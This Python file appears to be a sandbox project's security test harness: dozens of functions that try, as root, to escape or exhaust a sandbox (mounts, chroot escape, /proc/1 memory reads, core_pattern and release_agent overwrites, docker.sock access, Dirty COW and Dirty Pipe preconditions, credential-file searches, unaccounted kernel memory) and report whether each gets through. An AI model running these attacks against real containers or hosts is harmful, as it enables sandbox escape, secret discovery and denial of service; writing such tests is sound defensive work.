"""Attacks that run inside a sandbox as root, one per function. Prints the outcome of each attack as JSON.

An attack that succeeds returns its result; one that fails raises. Standard library only.
"""

# ruff: noqa: PTH, SIM115

import ctypes
import errno
import fcntl
import glob
import json
import mmap
import os
import platform
import resource
import signal
import socket
import struct
import sys
import termios
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
NUMBERS = {  # name: (x86_64, aarch64)
    "pivot_root": (155, 41),
    "init_module": (175, 105),
    "finit_module": (313, 273),
    "delete_module": (176, 106),
    "bpf": (321, 280),
    "perf_event_open": (298, 241),
    "add_key": (248, 217),
    "request_key": (249, 218),
    "keyctl": (250, 219),
    "kexec_load": (246, 104),
    "userfaultfd": (323, 282),
    "syslog": (103, 116),
    "fsopen": (430, 430),
    "open_tree": (428, 428),
    "mount_setattr": (442, 442),
    "io_uring_setup": (425, 425),
    "io_setup": (206, 0),
}


def check(result):
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def syscall(name, *arguments):
    return check(libc.syscall(ctypes.c_long(NUMBERS[name][ARM]), *arguments))


def mount_tmpfs():
    check(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))


def mount_proc():
    check(libc.mount(b"proc", b"/mnt", b"proc", 0, None))


def mount_cgroup():
    check(libc.mount(b"cgroup", b"/mnt", b"cgroup", 0, b"memory"))


def mount_cgroup2():
    check(libc.mount(b"none", b"/mnt", b"cgroup2", 0, None))


def mount_bind():
    check(libc.mount(b"/etc", b"/mnt", None, 4096, None))


def remount_root_writable():
    check(libc.mount(None, b"/proc/sys", None, 32 | 4096, None))


def unmount_masks():
    masked = [line.split()[4] for line in open("/proc/self/mountinfo") if line.split()[4].startswith("/proc/")]
    for point in masked or ["/proc"]:
        check(libc.umount2(point.encode(), 2))
    return masked


def mount_overlay():
    check(libc.mount(b"o", b"/mnt", b"overlay", 0, b"lowerdir=/etc:/usr"))


def new_mount_api():
    return syscall("fsopen", b"tmpfs", 0)


def clone_tree():
    return syscall("open_tree", -100, b"/", 1)


def change_mount():
    syscall("mount_setattr", -100, b"/proc", 0, ctypes.create_string_buffer(32), 32)


def pivot():
    os.makedirs("/tmp/p", exist_ok=True)
    syscall("pivot_root", b"/tmp/p", b"/tmp/p")


def new_user_namespace():
    check(libc.unshare(0x10000000))


def new_mount_namespace():
    check(libc.unshare(0x00020000))


def new_network_namespace():
    check(libc.unshare(0x40000000))


def namespaces_by_the_kernels_own_count():
    kinds = glob.glob("/proc/sys/user/max_*_namespaces")
    return [path for path in kinds if open(path).read() != "0\n"] or check(-1)


def join_init_namespaces():
    check(libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))


def init_root():
    return os.listdir("/proc/1/root/")


def init_executable():
    return open("/proc/1/exe", "rb").read(16)


def init_memory():
    line = open("/proc/1/maps").readline()
    with open("/proc/1/mem", "rb") as memory:
        memory.seek(int(line.split("-")[0], 16))
        return memory.read(16)


def init_environment():
    return open("/proc/1/environ", "rb").read()


def init_files():
    return [os.readlink(name) for name in glob.glob("/proc/1/fd/*")] or check(-1)


def init_limits():
    """With so few descriptors, the guest agent could not serve the sandbox."""
    resource.prlimit(1, resource.RLIMIT_NOFILE, (64, 64))


def init_ptrace():
    check(libc.ptrace(16, 1, None, None))


def init_read_memory():
    buffer = ctypes.create_string_buffer(8)

    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    mine = Piece(ctypes.cast(buffer, ctypes.c_void_p), 8)
    theirs = Piece(ctypes.cast(libc.mount, ctypes.c_void_p), 8)
    check(libc.process_vm_readv(1, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))


def node(kind, major, minor):
    path = f"/tmp/node-{major}-{minor}"
    os.mknod(path, kind | 0o666, os.makedev(major, minor))
    return os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 1)


def memory_device():
    return node(0o020000, 1, 1)


def disk_device():
    return node(0o060000, 254, 0)


def kernel_log_device():
    return node(0o020000, 1, 11)


def devices_present():
    usual = set("null zero full random urandom tty ptmx pts shm fd stdin stdout stderr core mqueue console".split())
    odd = sorted(set(os.listdir("/dev")) - usual)
    return odd or check(-1)


def kernel_log():
    return syscall("syslog", 3, ctypes.create_string_buffer(100), 100)


def load_module():
    syscall("init_module", b"", 0, b"")


def load_module_file():
    syscall("finit_module", os.open("/bin/true", os.O_RDONLY), b"", 0)


def unload_module():
    syscall("delete_module", b"nope", 0)


def load_kernel():
    syscall("kexec_load", 0, 0, None, 0)


def load_bpf():
    syscall("bpf", 0, ctypes.create_string_buffer(128), 128)


def open_perf():
    return syscall("perf_event_open", ctypes.create_string_buffer(b"\1\0\0\0\x70\0\0\0", 128), 0, -1, -1, 0)


def add_key():
    return syscall("add_key", b"user", b"k", b"v", 1, -3)


def use_keyring():
    return syscall("keyctl", 0, -3, 1)


def fault_handler():
    return syscall("userfaultfd", 0)


def uring():
    return syscall("io_uring_setup", 8, ctypes.create_string_buffer(120))


def asynchronous_io():
    """The number of contexts is limited for the whole machine."""
    return syscall("io_setup", 1, ctypes.byref(ctypes.c_ulong(0)))


def open_by_handle():
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\1\0\0\0" + b"\2\0\0\0\0\0\0\0", 24)
    return check(libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY))


def reboot():
    check(libc.reboot(0x89ABCDEF))  # disables Ctrl-Alt-Del: harmless if it succeeds


def set_hostname():
    check(libc.sethostname(b"owned", 5))


def set_clock():
    time.clock_settime(time.CLOCK_REALTIME, time.time())


def swap_on():
    check(libc.swapon(b"/tmp/swap", 0))


def quota_control():
    check(libc.quotactl(0x800007 << 8, None, 0, ctypes.create_string_buffer(64)))


def raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


def socket_that_loads_a_module():
    """SCTP, DCCP, UDP-Lite and more. Every kernel has generic netlink, so it fails only because of the seccomp filter."""
    kinds = [(2, 1, 132), (2, 5, 132), (10, 1, 132), (2, 6, 33), (2, 2, 136), (2, 1, 262), (16, 3, 16), (16, 3, 6)]
    got = []
    for kind in kinds:
        try:
            got.append((kind, socket.socket(*kind).fileno()))
        except OSError:
            continue
    return got or check(-1)


def line_discipline():
    """TIOCSETD loads the kernel module of any line discipline."""
    master, _slave = os.openpty()
    fcntl.ioctl(master, 0x5423, (2).to_bytes(4, "little"))


def packet_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))


def network_admin():
    """Take the loopback down by ioctl."""
    with socket.socket() as probe:
        fcntl.ioctl(probe, 0x8914, b"lo".ljust(16, b"\0") + b"\0" * 24)


def set_option(family, kind, level, option, value):
    with socket.socket(family, kind) as sock:
        sock.setsockopt(level, option, value)


def socket_filter():
    """No cgroup counts the memory of the filter and its compiled form, nor what the following options allocate for each socket."""
    return use_filter(26)


def filter_of_a_group_of_sockets():
    return use_filter(51)


def use_filter(option):
    code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xFFFF), 8)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.setsockopt(socket.SOL_SOCKET, option, struct.pack("HxxxxxxQ", 1, ctypes.addressof(code)))


def multicast_from_a_source():
    set_option(
        socket.AF_INET,
        socket.SOCK_DGRAM,
        socket.IPPROTO_IP,
        39,
        socket.inet_aton("225.0.0.1") + socket.inet_aton("127.0.0.1") + socket.inet_aton("10.0.0.1"),
    )


def multicast_on_ipv6():
    group = socket.inet_pton(socket.AF_INET6, "ff01::1234") + struct.pack("I", socket.if_nametoindex("lo"))
    set_option(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_IPV6, 20, group)


def multicast_group_with_sources():
    """Uses a group_req with the address of an IPv6 group."""
    address = struct.pack("HHI16sI", socket.AF_INET6, 0, 0, socket.inet_pton(socket.AF_INET6, "ff01::1234"), 0)
    request = struct.pack("I4x", socket.if_nametoindex("lo")) + address.ljust(128, b"\0")
    set_option(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_IPV6, 42, request)


def packet_options():
    """Sixty kilobytes of packet options."""
    option = struct.pack("QiiI4x", 20, socket.IPPROTO_IPV6, 67, 0)  # IPV6_TCLASS
    set_option(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_IPV6, 6, option * 2500)


def routing_header():
    header = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, "2001:db8::1")
    set_option(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_IPV6, 57, header)


def signature_key():
    address = struct.pack("HH4s", socket.AF_INET, 0, socket.inet_aton("10.0.0.1")).ljust(128, b"\0")
    key = address + struct.pack("BBHi80s", 0, 0, 80, 0, b"x" * 80)
    set_option(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP, 14, key)


def long_access_list():
    """The access list of a file in memory: the kernel stores it unchanged and counts it nowhere."""
    path = f"/dev/shm/list-{os.getpid()}"
    os.close(os.open(path, os.O_CREAT | os.O_RDWR, 0o600))
    others = [(2, 7, os.getuid())] * 200
    entries = [(1, 7, 0xFFFF_FFFF), *others, (4, 5, 0xFFFF_FFFF), (0x10, 7, 0xFFFF_FFFF), (0x20, 5, 0xFFFF_FFFF)]
    try:
        os.setxattr(
            path, "system.posix_acl_access", struct.pack("I", 2) + b"".join(struct.pack("HHI", *e) for e in entries)
        )
    finally:
        os.unlink(path)


def many_files_in_memory():
    return fill("/dev/shm", 20000)


def many_device_files():
    return fill("/dev", 100)


def fill(folder, count):
    made = []
    try:
        for number in range(count):
            path = f"{folder}/fill-{os.getpid()}-{number}"
            os.mkdir(path)
            made.append(path)
    finally:
        for path in made:
            os.rmdir(path)


def type_into_terminal():
    """Injects input with TIOCSTI into a shared terminal."""
    master, _slave = os.openpty()
    fcntl.ioctl(master, termios.TIOCSTI, b"x")


def write_to(path, text="|/tmp/owned"):
    before = open(path).read()
    with open(path, "w") as file:
        file.write(text)
    return before


def core_pattern():
    return write_to("/proc/sys/kernel/core_pattern")


def modprobe_path():
    return write_to("/proc/sys/kernel/modprobe")


def overcommit():
    return write_to("/proc/sys/vm/overcommit_memory", "1")


def forwarding():
    return write_to("/proc/sys/net/ipv4/ip_forward", "1")


def sysrq():
    with open("/proc/sysrq-trigger", "w") as file:
        file.write("h")


def uevent_helper():
    return write_to("/sys/kernel/uevent_helper")


def release_agents():
    found = glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)
    for path in found:
        write_to(path)
    return found or check(-1)


def cgroup_limits():
    found = glob.glob("/sys/fs/cgroup/**/memory.max", recursive=True) + glob.glob(
        "/sys/fs/cgroup/**/memory.limit_in_bytes", recursive=True
    )
    for path in found:
        write_to(path, "-1")
    return found or check(-1)


def kernel_core():
    return open("/proc/kcore", "rb").read(16) or check(-1)


def kernel_symbols():
    lines = [line for line in open("/proc/kallsyms") if not line.startswith("0000000000000000")]
    return lines[:1] or check(-1)


def keys_of_others():
    return open("/proc/keys").read() or check(-1)


def foreign_processes():
    """Processes that are not below pid 1 of this sandbox, by their names."""
    names = [open(f"/proc/{pid}/comm").read().strip() for pid in os.listdir("/proc") if pid.isdigit()]
    return sorted(set(names) & {"systemd", "sshd", "uvicorn", "dockerd", "kthreadd"}) or check(-1)


def inotify_instance():
    return check(libc.inotify_init1(0))


def message_queue():
    """A queue of the default size that is unlinked at once."""
    name = f"/attack-{os.getpid()}-{time.monotonic_ns()}".encode()
    queue = check(libc.mq_open(name, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o600, None))
    check(libc.mq_unlink(name))
    return queue


def queued_signal():
    """A blocked signal to the own process, which stays queued."""
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
    check(libc.sigqueue(os.getpid(), signal.SIGRTMIN, None))


def terminal():
    return os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)


COUNTED = (inotify_instance, message_queue, queued_signal, terminal)  # limited per user or for the whole machine
MOST = 200_000


def hold_everything_counted(place):
    """Hold as much as possible as several users of the sandbox until it is killed. Writes the counts into a file."""
    held = dict.fromkeys([item.__name__ for item in COUNTED], 0)
    for uid in (0, 1000, 2000):
        child, parent = os.pipe()
        if os.fork() == 0:
            os.setuid(uid)
            got = {}
            for item in COUNTED:
                got[item.__name__] = 0
                try:
                    while got[item.__name__] < MOST:
                        item()
                        got[item.__name__] += 1
                except OSError:
                    continue
            os.write(parent, json.dumps(got).encode())
            signal.pause()
        for name, count in json.loads(os.read(child, 4096)).items():
            held[name] += count
    with open(place + ".part", "w") as file:
        json.dump(held, file)
    os.rename(place + ".part", place)
    signal.pause()


def hold_netlink(megabytes):
    """Hold unread netlink responses for a minute. No cgroup counts their kernel buffers."""
    # a link that does not exist
    request = struct.pack("IHHII", 32, 18, 5, 1, 0) + struct.pack("BBHiII", 0, 0, 0, 99999, 0, 0)
    held = []
    for _ in range(int(megabytes) // 8):  # the kernel doubles the requested size
        held.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
        held[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        held[-1].setblocking(False)
        try:
            for _ in range(200):
                held[-1].send(request * 200)
        except OSError:
            continue
    time.sleep(60)
    return len(held)


def hold_unsent(count):
    """Hold unsent datagrams for a minute. No cgroup is charged for this or any of the following."""
    held = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(int(count))]
    for sock in held:
        sock.connect(("127.0.0.1", 9))
        sock.send(bytes(64000), socket.MSG_MORE)
    time.sleep(60)
    return len(held)


def hold_unaccepted(count):
    """Hold connections that are not accepted, with data sent to them."""
    server = socket.create_server(("127.0.0.1", 0), backlog=4096)
    held = []
    for _ in range(int(count)):
        held.append(socket.create_connection(server.getsockname()))
        held[-1].setblocking(False)
        try:
            while True:
                held[-1].send(bytes(1 << 16))
        except OSError:
            continue
    time.sleep(60)
    return len(held)


def hold_little(processes, close=""):
    """Hold connections with a few KB in each: the kernel gives every socket a page beyond the limit. Closed ones become orphans."""
    for _ in range(int(processes)):
        if not os.fork():
            server = socket.create_server(("127.0.0.1", 0), backlog=4096)
            server.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
            held = []
            for _ in range(5000):
                client = socket.create_connection(server.getsockname())
                held.append(server.accept()[0])
                client.setblocking(False)
                client.send(bytes(8192))
                client.close() if close else held.append(client)
            time.sleep(60)
            os._exit(0)
    os.wait()
    return "its processes ended by themselves"


def transfer(connections, megabytes, idle):
    """An ordinary program: send much data over many connections, and keep many idle connections for a second."""
    server = socket.create_server(("127.0.0.1", 0), backlog=4096)
    size = (int(megabytes) << 20) // int(connections)
    pairs = [(socket.create_connection(server.getsockname()), server.accept()[0]) for _ in range(int(connections))]

    def send(sock):
        sock.sendall(bytes(size))
        sock.close()

    def receive(sock):
        while data := sock.recv(1 << 16):
            received.append(len(data))

    received = []
    threads = [threading.Thread(target=send, args=(client,)) for client, _ in pairs]
    threads += [threading.Thread(target=receive, args=(peer,)) for _, peer in pairs]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    held = [(socket.create_connection(server.getsockname()), server.accept()[0]) for _ in range(int(idle))]
    time.sleep(1.1)  # the engine checks twice a second
    del held
    return sum(received)


def hold_errors(count):
    """Hold the error messages of datagrams to a closed port."""
    held = []
    for _ in range(int(count)):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.IPPROTO_IP, 11, 1)  # IP_RECVERR
        sock.connect(("127.0.0.1", 9))
        for _ in range(500):
            try:
                sock.send(bytes(500))
            except OSError:
                continue
        held.append(sock)
    time.sleep(60)
    return len(held)


def hold_echoes(count):
    """Hold unread responses to pings."""
    held = []
    for _ in range(int(count)):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        sock.connect(("127.0.0.1", 0))
        for _ in range(4):
            sock.send(b"\x08" + bytes(50000))
        held.append(sock)
    time.sleep(60)
    return len(held)


def hold_locks(count, folder):
    """Hold locks on every second byte of many files for a minute. No cgroup counts them."""
    os.makedirs(folder, exist_ok=True)
    held = []
    for number in range(int(count) // 1000):
        held.append(os.open(f"{folder}/{number}", os.O_RDWR | os.O_CREAT))
        for place in range(1000, 0, -1):
            fcntl.fcntl(held[-1], fcntl.F_SETLK, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 2 * place, 1, 0))
    time.sleep(60)
    return len(held)


def chroot_escape(canary):
    """The classic escape: keep a directory outside a nested chroot, then change to its parents."""
    os.makedirs("/tmp/jail", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return open(canary).read()


def canary_by_path(canary):
    return open(canary).read()


def canary_by_processes(canary):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for way in ("root", "cwd"):
            try:
                return open(f"/proc/{pid}/{way}{canary}").read()
            except OSError:
                continue
    raise FileNotFoundError(errno.ENOENT, "no process leads there")


def connect(address, port):
    with socket.create_connection((address, int(port)), timeout=1.5) as connection:
        return connection.recv(100).decode()


def abstract_socket(name):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + name)
        return client.recv(100).decode()


def engine_sockets():
    """Connect to the control sockets of container engines, which usually run as root of their machine."""
    names = (
        "docker.sock",
        "containerd/containerd.sock",
        "crio/crio.sock",
        "podman/podman.sock",
        "k3s/containerd/containerd.sock",
    )
    return [
        name for name in names if accepts_connections(f"/run/{name}") or accepts_connections(f"/var/run/{name}")
    ] or check(-1)


def accepts_connections(path):
    with socket.socket(socket.AF_UNIX) as client:
        return client.connect_ex(path) == 0


def mount_disk():
    """Create a device node for each disk, as far as the sandbox can know them, and mount it."""
    try:
        disks = {tuple(map(int, line.split()[:2])) for line in open("/proc/partitions") if line[:5].strip().isdigit()}
    except OSError:
        disks = set()
    error = None
    for major, minor in disks | {(7, 0), (8, 0), (8, 1), (252, 0), (253, 0), (254, 0), (259, 0)}:
        try:
            path = f"/tmp/disk-{major}-{minor}"
            if not os.path.exists(path):
                os.mknod(path, 0o060600, os.makedev(major, minor))
            for kind in (b"ext4", b"btrfs", b"xfs", b"vfat"):
                if libc.mount(path.encode(), b"/mnt", kind, 1, None) == 0:
                    return os.listdir("/mnt")
            check(-1)
        except OSError as failure:
            error = failure
    raise error


def write_read_only_mounts():
    """Make every mount writable and create a file in it."""
    points = {line.split()[1] for line in open("/proc/mounts") if "ro" in line.split()[3].split(",")}
    points |= {line.split()[1] for line in open("/proc/mounts") if line.split()[1].startswith("/dev/.sandyard")}
    written = []
    for point in sorted(point for point in points if not point.startswith("/dev/.containers")):  # its own Docker's
        for flags in (32, 32 | 4096):
            libc.mount(None, point.encode(), None, flags, None)
        try:
            if os.path.isdir(point):
                os.mkdir(f"{point}/owned")
            else:
                os.close(os.open(point, os.O_WRONLY))
            written.append(point)
        except OSError:
            continue
    return written or check(-1)


def replace_runtime():
    """Open the programs for writing that the runtime and the agent are made of, as found through /proc."""
    paths = [f"/proc/{pid}/exe" for pid in os.listdir("/proc") if pid.isdigit() and pid != str(os.getpid())]
    paths = [path for path in paths if is_foreign(path)]
    for folder, _, names in os.walk("/dev/.sandyard"):
        paths += [f"{folder}/{name}" for name in names if name != "original-sudo"]
    opened = []
    for path in [*paths, "/proc/1/exe"]:
        try:
            os.close(os.open(path, os.O_WRONLY))
            opened.append(path)
        except OSError:
            continue
    return opened or check(-1)


def is_foreign(path):
    """Return whether a link of /proc leads to a file that the sandbox does not have below its root."""
    try:
        return not os.path.exists(os.readlink(path)) or os.readlink(path).startswith("/dev/")
    except OSError:
        return True


def leaked_descriptors(canary):
    """Find a way out through the directories that a process has inherited."""
    tried = 0
    for pid in ("self", str(os.getppid()), "1"):
        for number in range(64):
            path = f"/proc/{pid}/fd/{number}"
            for way in (path, f"{path}/..", f"{path}/../../../../../../../.."):
                try:
                    return open(f"{way}{canary}").read()
                except OSError:
                    tried += 1
    raise FileNotFoundError(errno.ENOENT, f"none of {tried} paths leads there")


def same_kernel(release):
    """Fail if the calls of this process are served by another kernel than the host's."""
    if os.uname().release != release:
        raise OSError(errno.ENOSYS, f"calls are served by the kernel {os.uname().release}")


def write_private_copy(release):
    """What Dirty COW needs: write to a read-only private mapping through /proc while another thread discards it."""
    same_kernel(release)
    path = "/tmp/read-only"
    with open(path, "w") as file:
        file.write("original")
    with open(path, "rb") as file:
        view = mmap.mmap(file.fileno(), 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
    address = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if line.rstrip().endswith(path))
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(address)
        memory.write(b"changed!")
    return view[:], open(path).read()


def splice_from_file(release):
    """What Dirty Pipe needs: move a page of a file into a pipe that has been filled and drained before."""
    same_kernel(release)
    out, into = os.pipe()
    os.write(into, bytes(4096))
    os.read(out, 4096)
    with open("/etc/passwd", "rb") as file:
        return os.splice(file.fileno(), into, 1, 0)


def packet_ring(release):
    """What CVE-2017-7308 needs: a packet socket of version 3 with a ring buffer."""
    same_kernel(release)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
        sock.setsockopt(263, 10, 2)  # PACKET_VERSION: TPACKET_V3
        return sock.fileno()


def load_bpf_program(release):
    """What CVE-2017-16995 needs: pass a program to the verifier."""
    same_kernel(release)
    code = ctypes.create_string_buffer(struct.pack("BBhiBBhi", 0xB7, 0, 0, 0, 0x95, 0, 0, 0))
    license = ctypes.create_string_buffer(b"GPL")
    # BPF_PROG_TYPE_SOCKET_FILTER, which kernels also accept from users without capabilities unless it is disabled
    attributes = struct.pack("IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(license)).ljust(128, b"\0")
    return syscall("bpf", 5, ctypes.create_string_buffer(attributes), 128)


def datagram_to_loopback_of_host(port):
    """Send datagrams for 127.0.0.1 out of the sandbox: by the interface, as packets and as frames with the host's address."""
    with open("/proc/net/route") as routes:
        default = next(line.split() for line in routes if line.split()[1] == "00000000")
    name, gateway = default[0], socket.inet_ntoa(bytes.fromhex(default[2])[::-1])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((gateway, 9))
        own = sock.getsockname()[0]
    payload = b"from the sandbox"
    datagram = struct.pack("!HHHH", 4444, int(port), 8 + len(payload), 0) + payload
    packets = [make_packet(source, "127.0.0.1", datagram) for source in (own, "127.0.0.1")]
    sent, errors = [], []

    def by_interface():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, 25, name.encode())  # SO_BINDTODEVICE
            sock.sendto(payload, ("127.0.0.1", int(port)))

    def as_packets():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
            sock.setsockopt(socket.SOL_SOCKET, 25, name.encode())
            for packet in packets:
                sock.sendto(packet, ("127.0.0.1", 0))

    def as_frames():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as sock:
            for target in (neighbour_address(gateway), b"\xff" * 6):
                for packet in packets:
                    sock.sendto(target + bytes.fromhex("020000000001") + b"\x08\x00" + packet, (name, 0x0800))

    for way in (by_interface, as_packets, as_frames):
        try:
            way()
            sent.append(way.__name__)
        except OSError as error:
            errors.append(f"{way.__name__}: {error}")
    return sent, errors


def make_packet(source, target, content):
    length = 20 + len(content)
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    header = struct.pack("!BBHHHBBH", 0x45, 0, length, 1, 0, 64, 17, 0) + addresses
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return header[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + header[12:] + content


def neighbour_address(address):
    """Return the hardware address of a neighbour, or broadcast if it is not known."""
    for line in open("/proc/net/arp"):
        fields = line.split()
        if fields[0] == address:
            return bytes.fromhex(fields[3].replace(":", ""))
    return b"\xff" * 6


def environment_of_processes(digits):
    """Search the variables and arguments of every process for a text, given in hexadecimal so as not to find itself."""
    text, found = bytes.fromhex(digits), []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                data = open(f"/proc/{pid}/{name}", "rb").read()
            except OSError:
                continue
            if text in data:
                found.append(f"{pid}/{name}")
    return found or check(-1)


def files_with(digits):
    """Search the files where credentials usually are for a text, given in hexadecimal."""
    text, found = bytes.fromhex(digits), []
    for folder in (
        "/root",
        "/home",
        "/etc",
        "/run",
        "/var/lib",
        "/var/log",
        "/opt",
        "/srv",
        "/mnt",
        "/dev/.sandyard/packages",
    ):
        for place, _, names in os.walk(folder):
            for path in (os.path.join(place, name) for name in names):
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 20 and text in open(path, "rb").read():
                        found.append(path)
                except OSError:
                    continue
    return found or check(-1)


LOCKED = ("/etc/passwd", "/usr/bin/env", "/usr/bin", "/etc")


def leave_message(text):
    """Leave a text in every object of the kernel that processes find by name, and keep it until the process is killed."""
    held = [socket.socket(socket.AF_UNIX)]
    held[0].bind(f"\0{text}")
    held[0].listen()
    for use in ipc_objects(text, os.O_CREAT, 0o1666).values():
        use()
    for path in LOCKED:
        held.append(os.open(path, os.O_RDONLY))
        fcntl.flock(held[-1], fcntl.LOCK_EX)
    os.close(os.open("/tmp/left", os.O_CREAT))
    signal.pause()


def find_message(text):
    ways = ipc_objects(text, 0, 0)
    ways["socket"] = lambda: socket.socket(socket.AF_UNIX).connect(f"\0{text}")
    for path in LOCKED:
        ways[f"lock of {path}"] = lambda path=path: is_locked(path) or check(-1)
    found = []
    for name, way in ways.items():
        try:
            way()
            found.append(name)
        except OSError:
            continue
    return found or check(-1)


def ipc_objects(text, flags, mode):
    number = int.from_bytes(text.encode()[:3], "big")
    return {
        "shared memory": lambda: check(libc.shmget(number, 4096, mode)),
        "messages": lambda: check(libc.msgget(number, mode)),
        "semaphores": lambda: check(libc.semget(number, 1, mode)),
        "file in memory": lambda: os.close(os.open(f"/dev/shm/{text}", os.O_RDWR | flags)),
    }


def is_locked(path):
    descriptor = os.open(path, os.O_RDONLY)
    try:
        fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return True
    finally:
        os.close(descriptor)
    return False


def list_plain_attacks():
    """Return the names of the attacks that need no argument."""
    own = [value for value in globals().values() if getattr(value, "__module__", "") == "__main__"]
    others = (main, list_plain_attacks, *COUNTED)
    return [value.__name__ for value in own if not value.__code__.co_argcount and value not in others]


def main():
    outcome = {}
    for name in sys.argv[1:] or list_plain_attacks():
        function, *arguments = name.split(":")
        child, parent = os.pipe()
        pid = os.fork()  # a successful attack could affect the next one
        if pid == 0:
            try:
                result = ["GOT THROUGH", repr(globals()[function](*arguments))[:200]]
            except BaseException as error:
                result = ["failed", f"{type(error).__name__}: {error}"]
            os.write(parent, json.dumps(result).encode())
            os._exit(0)
        os.close(parent)
        data = os.read(child, 4096)
        os.close(child)
        _, status = os.waitpid(pid, 0)
        outcome[name] = json.loads(data) if data else ["failed", f"ended by {status}"]
    print(json.dumps(outcome))


if __name__ == "__main__":
    main()
